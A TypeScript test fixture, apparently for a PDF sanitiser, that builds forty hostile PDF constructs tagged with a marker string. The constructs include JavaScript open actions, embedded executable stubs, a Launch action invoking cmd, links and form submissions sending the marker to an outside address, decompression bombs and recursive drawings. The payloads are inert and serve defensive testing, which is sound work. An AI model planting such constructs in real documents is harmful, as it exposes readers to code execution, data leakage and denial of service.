import { deflateSync } from 'node:zlib';
import { flate, type RawObject } from './raw-pdf.ts';

/** is in whatever must not come through. */
export const SECRET = 'SECRET-PAYLOAD';

export type HostileKind = {
  readonly name: string;
  readonly resources?: string;
  /** Drawing steps. */
  readonly steps?: string;
  /** Further keys. */
  readonly catalog?: string;
  readonly page?: string;
  readonly trailer?: string;
  readonly annotations?: string;
  readonly objects?: readonly RawObject[];
};

const SCRIPT = `<< /S /JavaScript /JS (app.alert\\("${SECRET}"\\)) >>`;
const DRAW = 'q 100 0 0 50 40 40 cm /X0 Do Q';
const PIXELS = '\u0000\u00ff\u0080\u0040';
const PICTURE = '/Type /XObject /Subtype /Image /Width 2 /Height 2 /BitsPerComponent 8 /ColorSpace /DeviceGray';
const FORM = '/Type /XObject /Subtype /Form /BBox [0 0 300 200]';
const zeros = (count: number): Uint8Array => deflateSync(new Uint8Array(count));

/** Forty kinds of harm; `first` is the number of the first object that is theirs. */
export function hostileKinds(first: number): readonly HostileKind[] {
  const at = (offset: number): string => `${first + offset} 0 R`;
  const x0 = `/XObject << /X0 ${at(0)} >>`;
  const file = { dict: '/Type /EmbeddedFile', bytes: `MZ ${SECRET}` };
  const link = (action: string): string => `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ${action} >>`;
  const chain = (length: number, draws: number): readonly RawObject[] =>
    Array.from({ length }, (_, index) => {
      const isLast = index === length - 1;
      const resources = isLast ? '' : `/Resources << /XObject << /X0 ${at(index + 1)} >> >>`;
      return { dict: `${FORM} ${resources}`, bytes: isLast ? '0 0 10 10 re f' : '/X0 Do '.repeat(draws) };
    });
  const hidden = `/OCProperties << /OCGs [${at(1)}] /D << /OFF [${at(1)}] /Order [] >> >>`;

  return [
    { name: 'a script on opening', catalog: `/OpenAction ${SCRIPT}`, page: `/AA << /O ${SCRIPT} >>` },
    {
      name: 'scripts and files by name',
      catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> /EmbeddedFiles << /Names [(b) ${at(1)}] >> >>`,
      objects: [file, `<< /Type /Filespec /F (b.exe) /EF << /F ${at(0)} >> >>`],
    },
    {
      name: 'a script behind a mark',
      resources: `/Properties << /P0 ${SCRIPT} >>`,
      steps: '/Span /P0 BDC 0 0 9 9 re f EMC',
    },
    { name: 'a script in a mark', steps: `/Span << /ActualText (${SECRET}) /JS (x) >> BDC 0 0 9 9 re f EMC` },
    {
      name: 'a script in a state',
      resources: `/ExtGState << /G0 << /LW 2 /JS (${SECRET}) /AA ${SCRIPT} >> >>`,
      steps: '/G0 gs',
    },
    {
      name: 'a file beside a drawing',
      resources: x0,
      steps: DRAW,
      objects: [
        { dict: `${FORM} /AF [${at(2)}] /PieceInfo << /P << /Private ${at(1)} >> >>`, bytes: '0 0 9 9 re f' },
        file,
        `<< /Type /Filespec /F (b.exe) /EF << /F ${at(1)} >> >>`,
      ],
    },
    {
      name: 'a program for printers',
      resources: x0,
      steps: DRAW,
      objects: [{ dict: '/Type /XObject /Subtype /PS', bytes: `(${SECRET}) run` }],
    },
    {
      name: 'a drawing that is a program',
      resources: x0,
      steps: DRAW,
      objects: [
        { dict: `${FORM} /Subtype2 /PS /PS ${at(1)}`, bytes: '' },
        { dict: '', bytes: `(${SECRET}) run` },
      ],
    },
    {
      name: 'a picture with another one behind it',
      resources: x0,
      steps: DRAW,
      objects: [
        { dict: `${PICTURE} /Alternates [<< /Image ${at(1)} /DefaultForPrinting true >>]`, bytes: PIXELS },
        { dict: PICTURE, bytes: SECRET.slice(0, 4) },
      ],
    },
    {
      name: 'a picture with a print shop behind it',
      resources: x0,
      steps: DRAW,
      objects: [{ dict: `${PICTURE} /OPI << /2.0 << /Type /OPI /F (${SECRET}) >> >>`, bytes: PIXELS }],
    },
    {
      name: 'a picture from outside',
      resources: x0,
      steps: DRAW,
      objects: [{ dict: `${PICTURE} /F << /FS /URL /F (http://198.51.100.7/${SECRET}) >>`, bytes: '' }],
    },
    {
      name: 'a page of another file',
      resources: x0,
      steps: DRAW,
      objects: [{ dict: `${FORM} /Ref << /F (${SECRET}) /Page 0 >>`, bytes: '' }],
    },
    { name: 'forty drawings in one another', resources: x0, steps: '/X0 Do', objects: chain(40, 1) },
    { name: 'a thousand million drawings', resources: x0, steps: '/X0 Do', objects: chain(10, 10) },
    { name: 'twelve drawings in one another', resources: x0, steps: '/X0 Do', objects: chain(12, 2) },
    {
      name: 'a drawing in itself',
      resources: x0,
      steps: '/X0 Do',
      objects: [{ dict: `${FORM} /Resources << /XObject << /X0 ${at(0)} >> >>`, bytes: '/X0 Do /X0 Do' }],
    },
    {
      name: 'two drawings in each other',
      resources: x0,
      steps: '/X0 Do',
      objects: [
        { dict: `${FORM} /Resources << /XObject << /X0 ${at(1)} >> >>`, bytes: '/X0 Do' },
        { dict: `${FORM} /Resources << /XObject << /X0 ${at(0)} >> >>`, bytes: '/X0 Do /X0 Do' },
      ],
    },
    {
      name: 'tiles too small to see',
      resources: `/Pattern << /P0 ${at(0)} >>`,
      steps: '/Pattern cs /P0 scn 0 0 300 200 re f',
      objects: [
        {
          dict: '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << >>',
          bytes: '0 0 1 1 re f',
        },
      ],
    },
    { name: 'dashes too short to see', steps: '[0.00001] 0 d 0 0 m 300 200 l S' },
    {
      name: 'letters that are drawings with scripts',
      resources: `/Font << /F1 4 0 R /T3 ${at(0)} >>`,
      steps: 'BT /T3 10 Tf (ab) Tj ET',
      objects: [
        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [.1 0 0 .1 0 0] /FirstChar 97 /LastChar 98
          /Widths [10 10] /Encoding << /Differences [97 /JS /AA] >> /CharProcs << /JS ${at(1)} /AA ${at(1)} >>
          /Resources << /Properties << /P ${SCRIPT} >> >> /JS (${SECRET}) >>`,
        { dict: `/JS (${SECRET})`, bytes: '10 0 d0 0 0 8 8 re f' },
      ],
    },
    { name: 'a link that starts a program', annotations: link(`<< /S /Launch /F (${SECRET}) /Win << /F (cmd) >> >>`) },
    {
      name: 'a link to the network',
      annotations: link(`<< /S /URI /URI (http://198.51.100.7/${SECRET}) >>`),
      catalog: '/URI << /Base (http://198.51.100.7/) >>',
    },
    {
      name: 'a link into another file',
      annotations: link(`<< /S /GoToR /F (${SECRET}) /D [0 /Fit] >> /PA << /S /URI /URI (${SECRET}) >>`),
    },
    {
      name: 'a form that sends itself off',
      annotations: `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://198.51.100.7/${SECRET}) >> /AA << /E ${SCRIPT} >> >>`,
      catalog: `/AcroForm << /Fields [] /XFA ${at(0)} /CO [] >>`,
      objects: [{ dict: '', bytes: `<xdp>${SECRET}</xdp>` }],
    },
    {
      name: 'a film',
      annotations: `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent << /Assets << /Names [(a) ${at(1)}] >> >> >>
        << /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (${SECRET}) >> >>
        << /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD ${at(0)} >>
        << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${at(1)} >>`,
      objects: [file, `<< /Type /Filespec /F (b.swf) /EF << /F ${at(0)} >> >>`],
    },
    {
      name: 'names that mean something else',
      resources: `/XObject << /JS ${at(0)} /AA ${at(0)} /OpenAction ${at(0)} /EmbeddedFile ${at(0)} >>`,
      steps: '/JS Do /AA Do /OpenAction Do /EmbeddedFile Do',
      objects: [{ dict: `${FORM} /JS (${SECRET})`, bytes: '0 0 9 9 re f' }],
    },
    {
      name: 'steps that unpack without end',
      resources: x0,
      steps: '/X0 Do',
      objects: [{ dict: `${FORM} /Filter /FlateDecode`, bytes: zeros(60_000_000) }],
    },
    {
      name: 'a picture that unpacks without end',
      resources: x0,
      steps: DRAW,
      objects: [{ dict: `${PICTURE} /Filter /FlateDecode`, bytes: zeros(60_000_000) }],
    },
    {
      name: 'a picture as large as a field',
      resources: x0,
      steps: DRAW,
      objects: [
        {
          dict: `${PICTURE.replace('/Width 2 /Height 2', '/Width 60000 /Height 60000')} /Filter /FlateDecode`,
          bytes: zeros(9_000),
        },
      ],
    },
    {
      name: 'a calculation that is a program',
      resources: `/ColorSpace << /C0 [/Separation /Spot /DeviceRGB ${at(0)}] >>`,
      steps: '/C0 cs 1 scn 0 0 99 99 re f',
      objects: [{ dict: '/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]', bytes: `{ (${SECRET}) run 0 0 }` }],
    },
    {
      name: 'a font that is a program',
      resources: `/Font << /F1 4 0 R /F2 ${at(0)} >>`,
      steps: 'BT /F2 10 Tf (ab) Tj ET',
      objects: [
        `<< /Type /Font /Subtype /TrueType /BaseFont /Arial /FontDescriptor ${at(1)} >>`,
        `<< /Type /FontDescriptor /FontName /Arial /Flags 32 /FontBBox [0 0 1 1] /FontFile2 ${at(2)} >>`,
        flate('', `MZ ${SECRET}`),
      ],
    },
    {
      name: 'a font that opens files',
      resources: `/Font << /F1 4 0 R /F2 ${at(0)} >>`,
      steps: 'BT /F2 10 Tf (ab) Tj ET',
      objects: [
        `<< /Type /Font /Subtype /Type1 /BaseFont /Own /FontDescriptor ${at(1)} >>`,
        `<< /Type /FontDescriptor /FontName /Own /Flags 32 /FontBBox [0 0 1 1] /FontFile ${at(2)} >>`,
        flate(
          '/Length1 60 /Length2 0 /Length3 0',
          `%!PS-AdobeFont-1.0\n(${SECRET}) (w) file closefile currentfile eexec`,
        ),
      ],
    },
    {
      name: 'a table of codes that is a program',
      resources: `/Font << /F1 4 0 R /F2 ${at(0)} >>`,
      steps: 'BT /F2 10 Tf (ab) Tj ET',
      objects: [
        `<< /Type /Font /Subtype /Type1 /BaseFont /Courier /ToUnicode ${at(1)} /JS (${SECRET}) >>`,
        flate('/Type /CMap', `(${SECRET}) run begincmap endcmap`),
      ],
    },
    {
      name: 'a layer that is not shown',
      catalog: hidden,
      resources: `/Properties << /L0 ${at(1)} >> ${x0}`,
      steps: `/OC /L0 BDC BT /F1 18 Tf 40 90 Td (${SECRET}) Tj ET EMC`,
      objects: [{ dict: FORM, bytes: '' }, '<< /Type /OCG /Name (Hidden) >>'],
    },
    {
      name: 'a picture that is a program',
      resources: x0,
      steps: DRAW,
      objects: [
        { dict: `${PICTURE.replace('BitsPerComponent 8', 'BitsPerComponent 1')} /Filter /JBIG2Decode`, bytes: SECRET },
      ],
    },
    {
      name: 'a mask with a script',
      resources: `/ExtGState << /G0 << /SMask << /S /Luminosity /G ${at(0)} /JS (${SECRET}) >> >> >>`,
      steps: '/G0 gs 0 0 99 99 re f',
      objects: [
        {
          dict: `${FORM} /Group << /S /Transparency /CS /DeviceGray /JS (${SECRET}) /AA ${SCRIPT} >>`,
          bytes: '1 g 0 0 99 99 re f',
        },
      ],
    },
    {
      name: 'notes about its making',
      catalog: `/Metadata ${at(0)} /PieceInfo << /P << /Private (${SECRET}) >> >>`,
      page: `/Metadata ${at(0)} /Thumb ${at(1)} /PieceInfo << /P << /Private (${SECRET}) >> >>`,
      trailer: `/Info ${at(2)}`,
      objects: [
        { dict: '/Type /Metadata /Subtype /XML', bytes: `<x>${SECRET}</x>` },
        { dict: PICTURE, bytes: SECRET.slice(0, 4) },
        `<< /Author (${SECRET}) /JS (${SECRET}) >>`,
      ],
    },
    {
      name: 'colours with a program',
      resources: `/ColorSpace << /C0 [/DeviceN [/Spot] /DeviceGray ${at(0)} << /Process << /JS (${SECRET}) >> /AA ${SCRIPT} >>] /C1 [/ICCBased ${at(1)}] >>`,
      steps: '/C0 cs 1 scn 0 0 9 9 re f /C1 cs 1 scn 9 9 9 9 re f',
      objects: [
        `<< /FunctionType 2 /Domain [0 1] /C0 [1] /C1 [0] /N 1 /JS (${SECRET}) >>`,
        { dict: '/N 1 /Alternate /DeviceGray', bytes: `MZ ${SECRET}` },
      ],
    },
    {
      name: 'a shade from outside',
      resources: `/Shading << /S0 ${at(0)} >>`,
      steps: '/S0 sh',
      objects: [
        {
          dict: `/ShadingType 4 /ColorSpace /DeviceGray /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 1 0 1 0 1] /F (${SECRET}) /FFilter /FlateDecode`,
          bytes: '',
        },
      ],
    },
    {
      name: 'lists in lists without end',
      resources: `/ExtGState << /G0 << /LW 1 /D ${'['.repeat(3_000)}${']'.repeat(3_000)} /JS (${SECRET}) >> >>`,
      steps: `/G0 gs ${'['.repeat(2_000)}${']'.repeat(2_000)} 0 d`,
    },
  ];
}
